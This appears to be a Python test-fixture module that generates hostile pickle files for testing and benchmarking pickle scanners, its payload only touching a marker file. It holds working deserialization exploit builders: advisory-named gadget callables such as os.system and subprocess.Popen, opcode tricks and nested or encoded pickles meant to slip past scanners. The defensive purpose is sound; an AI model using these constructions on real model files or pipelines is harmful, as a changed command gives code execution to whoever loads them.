@@ -1,0 +1,247 @@
+"""Pickles that would do harm if they were loaded, put together opcode by opcode; their payload only names a marker file.
+
+Every family is one way in which published attacks reach a callable or blind a scanner. Nobody loads them: tests and the
+benchmark read them. Sources: the advisories named in `ADVISORIES`, https://github.com/protectai/modelscan,
+https://github.com/mmaitre314/picklescan/security/advisories, https://github.com/trailofbits/fickling/security/advisories.
+"""
+
+from __future__ import annotations
+
+import base64
+import struct
+import zlib
+from collections.abc import Iterator
+
+MARKER = "upright-marker-never-made"
+COMMAND = f"touch {MARKER}"
+
+# (module, name) of callables that advisories name; the id says where.
+ADVISORIES: tuple[tuple[str, str, str], ...] = (
+    ("CVE-2025-1716", "pip", "main"),
+    ("CVE-2025-46417", "ssl", "get_server_certificate"),
+    ("CVE-2025-10157", "asyncio.unix_events", "_UnixSubprocessTransport._start"),
+    ("CVE-2025-67747", "marshal", "loads"),
+    ("CVE-2025-67748", "pty", "spawn"),
+    ("GHSA-timeit", "timeit", "timeit"),
+    ("GHSA-idlelib", "idlelib.pyshell", "ModifiedInterpreter.runcode"),
+    ("GHSA-idlelib", "idlelib.run", "Executive.runcode"),
+    ("GHSA-idlelib", "idlelib.calltip", "get_entity"),
+    ("GHSA-idlelib", "idlelib.autocomplete", "AutoComplete.get_entity"),
+    ("GHSA-idlelib", "idlelib.debugobj", "ObjectTreeItem.SetText"),
+    ("GHSA-lib2to3", "lib2to3.pgen2.grammar", "Grammar.loads"),
+    ("GHSA-lib2to3", "lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
+    ("GHSA-profile", "profile", "Profile.runctx"),
+    ("GHSA-profile", "cProfile", "runctx"),
+    ("GHSA-trace", "trace", "Trace.runctx"),
+    ("GHSA-ensurepip", "ensurepip", "_run_pip"),
+    ("GHSA-doctest", "doctest", "debug_script"),
+    ("GHSA-code", "code", "InteractiveInterpreter.runcode"),
+    ("GHSA-bdb", "bdb", "Bdb.run"),
+    ("GHSA-pdb", "pdb", "run"),
+    ("GHSA-torch", "torch._dynamo.guards", "GuardBuilder.get"),
+    ("GHSA-torch", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
+    ("GHSA-torch", "torch.utils.collect_env", "run"),
+    ("GHSA-torch", "torch.utils._config_module", "ConfigModule.load_config"),
+    ("GHSA-torch", "torch.utils.bottleneck.__main__", "run_cprofile"),
+    ("GHSA-torch", "torch.jit.unsupported_tensor_ops", "execWrapper"),
+    ("GHSA-torch", "torch.utils.data.datapipes.utils.decoder", "basichandlers"),
+    ("GHSA-torch", "torch._inductor.codecache", "compile_file"),
+    ("GHSA-torch", "torch.distributed.rpc", "rpc_sync"),
+    ("GHSA-torch", "torch.hub", "load"),
+    ("GHSA-torch", "torch.utils.cpp_extension", "load_inline"),
+    ("GHSA-numpy", "numpy.f2py.crackfortran", "getlincoef"),
+    ("GHSA-numpy", "numpy.f2py.crackfortran", "param_eval"),
+    ("GHSA-numpy", "numpy.f2py.crackfortran", "_eval_length"),
+    ("GHSA-numpy", "numpy.testing._private.utils", "runstring"),
+    ("GHSA-numpy", "numpy.distutils.exec_command", "exec_command"),
+    ("GHSA-osx", "_osx_support", "_find_build_tool"),
+    ("GHSA-aix", "_aix_support", "_read_cmd_output"),
+    ("GHSA-uuid", "uuid", "_get_command_stdout"),
+    ("GHSA-distutils", "distutils.file_util", "write_file"),
+    ("GHSA-io", "io", "FileIO"),
+    ("GHSA-urllib", "urllib.request", "urlretrieve"),
+    ("GHSA-imaplib", "imaplib", "IMAP4_stream"),
+    ("GHSA-mailcap", "mailcap", "findmatch"),
+    ("GHSA-linecache", "linecache", "getlines"),
+    ("GHSA-shelve", "shelve", "open"),
+    ("GHSA-sqlite", "sqlite3", "connect"),
+    ("GHSA-logging", "logging.config", "listen"),
+    ("GHSA-logging", "logging", "FileHandler"),
+    ("GHSA-mp", "multiprocessing.util", "spawnv_passfds"),
+    ("GHSA-futures", "concurrent.futures", "ProcessPoolExecutor"),
+    ("GHSA-threading", "threading", "Thread"),
+    ("GHSA-ctypes", "ctypes", "CDLL"),
+    ("GHSA-gadget", "pandas", "eval"),
+    ("GHSA-gadget", "pandas", "read_pickle"),
+    ("GHSA-gadget", "pandas.core.computation.eval", "eval"),
+    ("GHSA-gadget", "sympy", "sympify"),
+    ("GHSA-gadget", "jinja2", "Template"),
+    ("GHSA-gadget", "IPython.utils.process", "system"),
+    ("GHSA-gadget", "git", "Git.execute"),
+    ("GHSA-gadget", "psutil", "Popen"),
+    ("GHSA-gadget", "joblib", "load"),
+    ("GHSA-gadget", "nltk.internals", "java"),
+    ("GHSA-gadget", "statsmodels.iolib.smpickle", "load_pickle"),
+    ("GHSA-gadget", "mlflow.projects", "run"),
+    ("GHSA-gadget", "keras.models", "load_model"),
+    ("GHSA-gadget", "tensorflow", "load_op_library"),
+    ("GHSA-gadget", "dill", "load_session"),
+    ("GHSA-gadget", "numexpr", "evaluate"),
+    ("GHSA-gadget", "transformers.dynamic_module_utils", "get_class_in_module"),
+    ("GHSA-gadget", "sklearn.utils._testing", "assert_run_python_script"),
+    ("GHSA-reexport", "random", "_os.system"),
+    ("GHSA-reexport", "torch.serialization", "os.system"),
+    ("GHSA-reexport", "pandas.io.common", "os.popen"),
+    ("GHSA-reexport", "numpy.core._internal", "sys.modules"),
+    ("GHSA-reexport", "tempfile", "_shutil.rmtree"),
+    ("GHSA-reexport", "sklearn.datasets._base", "urlretrieve"),
+    ("GHSA-direct", "os", "system"),
+    ("GHSA-direct", "posix", "system"),
+    ("GHSA-direct", "nt", "system"),
+    ("GHSA-direct", "subprocess", "Popen"),
+    ("GHSA-direct", "subprocess", "getoutput"),
+    ("GHSA-direct", "builtins", "eval"),
+    ("GHSA-direct", "__builtin__", "exec"),
+    ("GHSA-direct", "builtins", "__import__"),
+    ("GHSA-direct", "runpy", "run_path"),
+    ("GHSA-direct", "webbrowser", "open"),
+    ("GHSA-direct", "shutil", "rmtree"),
+    ("GHSA-direct", "builtins", "open"),
+    ("GHSA-direct", "pathlib", "Path.write_text"),
+    ("GHSA-direct", "socket", "create_connection"),
+    ("GHSA-direct", "pickle", "load"),
+    ("GHSA-direct", "importlib", "import_module"),
+    ("GHSA-direct", "zipimport", "zipimporter"),
+)
+
+
+def text(value: str) -> bytes:
+    """A text constant of protocol 4."""
+    raw = value.encode()
+    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw  # noqa: PLR2004
+
+
+def data(value: bytes) -> bytes:
+    """A bytes constant."""
+    return b"B" + struct.pack("<I", len(value)) + value
+
+
+def name(module: str, attribute: str) -> bytes:
+    """An import by GLOBAL."""
+    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"
+
+
+def stacked(module: str, attribute: str) -> bytes:
+    """An import by STACK_GLOBAL."""
+    return text(module) + text(attribute) + b"\x93"
+
+
+def called(callee: bytes, *arguments: bytes) -> bytes:
+    """A call by REDUCE."""
+    return callee + b"(" + b"".join(arguments) + b"tR"
+
+
+def whole(body: bytes, protocol: int = 4) -> bytes:
+    """A pickle of one value."""
+    return b"\x80" + bytes([protocol]) + body + b"."
+
+
+SYSTEM = name("os", "system")
+PAYLOAD = called(SYSTEM, text(COMMAND))
+
+
+def named_gadgets() -> Iterator[tuple[str, bytes]]:
+    """Every callable of an advisory, imported in both ways."""
+    for number, (advisory, module, attribute) in enumerate(ADVISORIES):
+        for way, callee in (("global", name(module, attribute)), ("stack", stacked(module, attribute))):
+            label = f"{advisory}-{number:02}-{module}.{attribute}-{way}"
+            yield label, whole(called(callee, text(COMMAND)) + b"0}")
+
+
+def opcode_tricks() -> Iterator[tuple[str, bytes]]:
+    """The same call, hidden in how the opcodes say it."""
+    command = text(COMMAND)
+    line = COMMAND.encode()
+    yield "protocol-0", b"cos\nsystem\n(S'" + line + b"'\ntR."
+    yield "protocol-1-inst", b"(S'" + line + b"'\nios\nsystem\n."
+    yield "obj", b"(cos\nsystem\n" + command + b"o."
+    yield "inst-without-end", b"(S'" + line + b"'\nios\nsystemX"
+    yield "newobj-ex", whole(name("subprocess", "Popen") + b"(" + command + b"t}\x92")
+    yield "headerless", stacked("os", "system") + command + b"\x85R."
+    yield "names-from-memo", whole(text("os") + b"q\x00" + b"0" + text("system") + b"q\x01" + b"0h\x00h\x01\x93" + command + b"\x85R")
+    yield "memo-overwritten", whole(text("json") + b"q\x000" + text("os") + b"q\x000h\x00" + text("system") + b"\x93" + command + b"\x85R")
+    yield "name-built", whole(text("os") + called(name("operator", "concat"), text("sys"), text("tem")) + b"\x93" + command + b"\x85R")
+    yield "dup-pop-noise", whole(b"N20" * 50 + b"(NNN1" + PAYLOAD + b"0N")
+    yield "result-popped", whole(PAYLOAD + b"0" + text("weights"))
+    yield "result-in-pop-mark", whole(b"(" + PAYLOAD + b"1]")
+    yield "frame-too-long", b"\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00" + PAYLOAD + b"."
+    yield "protocol-again", b"\x80\x04\x80\x02" + PAYLOAD + b"."
+    yield "odd-integers", whole(b"I0x10\n0I 1_0\n0L0b1L\n0" + PAYLOAD)
+    yield "broken-after", b"\x80\x04" + PAYLOAD + b"\xff\xff\xff"
+    yield "stack-broken-after", b"\x80\x04" + PAYLOAD + b"000000."
+    yield "cut-off", b"\x80\x04" + PAYLOAD
+    yield "second-stream", whole(b"N") + whole(PAYLOAD)
+    yield "padded-second-stream", whole(b"N") + bytes(5000) + whole(PAYLOAD)
+    yield "after-rubbish", whole(b"N") + b"\xde\xad\xbe\xef" + whole(PAYLOAD)
+    yield "after-many-opcodes", whole(b"N0" * 60_000 + PAYLOAD)
+    yield "after-long-text", whole(b"X" + struct.pack("<I", 3_000_000) + b"a" * 3_000_000 + b"0" + PAYLOAD)
+    yield "extension", whole(b"\x82\x07" + command + b"\x85R")
+    yield "setstate", whole(name("collections", "UserDict") + b")\x81}" + text("__setstate__") + SYSTEM + b"sb" + command + b"b")
+    yield "build-on-class", whole(name("collections", "OrderedDict") + b"}" + text("__reduce__") + SYSTEM + b"sb")
+    yield "setitem-on-modules", whole(name("sys", "modules") + text("os") + b"Ns")
+    yield "utf-8-name", whole(called(stacked("os", "system"), command)) + b"\n"
+    yield "persistent-noise", whole(b"Px\n0K\x01Q0" + PAYLOAD)
+
+
+def compositions() -> Iterator[tuple[str, bytes]]:
+    """Callables put together from harmless ones."""
+    command = text(COMMAND)
+    get = name("builtins", "getattr")
+    imported = called(name("builtins", "__import__"), text("os"))
+    yield "getattr", whole(called(called(get, imported, text("system")), command))
+    yield "getattr-of-module", whole(called(called(get, name("random", "_os"), text("system")), command))
+    yield "attrgetter", whole(called(called(called(name("operator", "attrgetter"), text("system")), imported), command))
+    yield "methodcaller", whole(called(called(name("operator", "methodcaller"), text("system"), command), imported))
+    yield "itemgetter", whole(called(called(name("operator", "itemgetter"), text("eval")), name("builtins", "__dict__")))
+    yield "partial", whole(called(called(name("functools", "partial"), SYSTEM), command))
+    yield "partial-state", whole(name("functools", "partial") + name("builtins", "len") + b"\x85R" + b"(" + SYSTEM + b"(" + command + b"t}Ntb)R")
+    yield "reduce", whole(called(name("functools", "reduce"), SYSTEM, b"](" + command + b"e"))
+    yield "reduce-getattr", whole(called(called(name("functools", "reduce"), get, b"](" + text("_os") + text("system") + b"e", name("builtins", "random")), command))
+    yield "map-consumed", whole(name("builtins", "list") + name("builtins", "map") + b"(" + SYSTEM + b"](" + command + b"et\x81\x85R")
+    yield "filter", whole(called(name("builtins", "filter"), SYSTEM, b"](" + command + b"e"))
+    yield "starmap", whole(called(name("itertools", "starmap"), SYSTEM, b"]((" + command + b"te"))
+    yield "operator-call", whole(called(name("operator", "call"), SYSTEM, command))
+    yield "resolve-name", whole(called(called(name("pkgutil", "resolve_name"), text("os:system")), command))
+    yield "locate", whole(called(called(name("pydoc", "locate"), text("os.system")), command))
+    yield "ufunc-reconstruct", whole(called(called(name("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")), command))
+    yield "import-dotted", whole(called(called(name("torch._utils", "_import_dotted_name"), text("os.system")), command))
+    yield "rebuild-from-type", whole(called(name("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, name("torch", "Tensor"), b"(" + command + b"t", b"}"))
+    yield "new-index", whole(called(name("pandas.core.indexes.base", "_new_Index"), name("subprocess", "Popen"), b"}"))
+    yield "subclasses-walk", whole(called(get, called(get, text("x"), text("__class__")), text("__base__")))
+    yield "format-walk", whole(called(called(get, text("{0.__class__.__init__.__globals__}"), text("format")), name("collections", "OrderedDict")))
+    yield "defaultdict", whole(called(name("collections", "defaultdict"), SYSTEM))
+    yield "reconstructor", whole(called(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), b"N"))
+    yield "code-object", whole(called(name("types", "FunctionType"), called(name("marshal", "loads"), data(b"\xe3")), b"}"))
+    yield "cloudpickle-run", whole(called(called(name("cloudpickle.cloudpickle", "_make_function"), text("os"), text("system")), command))
+    yield "path-write", whole(called(called(get, called(name("pathlib", "PosixPath"), text(MARKER)), text("write_text")), text("x")))
+    yield "class-of-instance", whole(called(called(name("builtins", "type"), called(name("subprocess", "Popen"), command)), command))
+
+
+def nested() -> Iterator[tuple[str, bytes]]:
+    """Pickles in the bytes of pickles."""
+    inner = whole(PAYLOAD)
+    yield "loads", whole(called(name("_pickle", "loads"), data(inner)))
+    yield "torch-load-from-bytes", whole(called(name("torch.storage", "_load_from_bytes"), data(inner)))
+    yield "bytesio", whole(called(name("pickle", "loads"), called(name("io", "BytesIO"), data(inner))))
+    packed = base64.b64encode(inner)
+    yield "base64", whole(called(name("pickle", "loads"), called(name("base64", "b64decode"), data(packed))))
+    yield "zlib", whole(called(name("pickle", "loads"), called(name("zlib", "decompress"), data(zlib.compress(inner)))))
+    twice = whole(called(name("pickle", "loads"), data(inner)))
+    yield "twice", whole(called(name("dill", "loads"), data(twice)))
+    yield "latin-1", whole(called(name("pickle", "loads"), called(name("_codecs", "encode"), text(inner.decode("latin-1")), text("latin1"))), 2)
+
+
+def hostile_pickles() -> dict[str, bytes]:
+    """Every hostile pickle by the name of its family and trick."""
+    families = {"gadget": named_gadgets, "opcode": opcode_tricks, "composition": compositions, "nested": nested}
+    return {f"{family}/{label}": content for family, made in families.items() for label, content in made()}
